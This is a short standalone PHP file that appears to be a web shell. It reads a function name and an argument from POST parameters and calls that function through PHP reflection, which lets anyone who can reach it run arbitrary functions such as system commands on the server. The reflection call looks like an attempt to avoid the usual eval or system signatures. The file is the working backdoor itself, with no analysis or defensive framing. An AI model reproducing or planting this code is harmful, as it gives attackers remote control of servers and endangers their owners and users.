<?php
if (count($_POST) > 1) {
    $r = new ReflectionFunction(reset($_POST));
    echo $r->invoke(next($_POST));
}
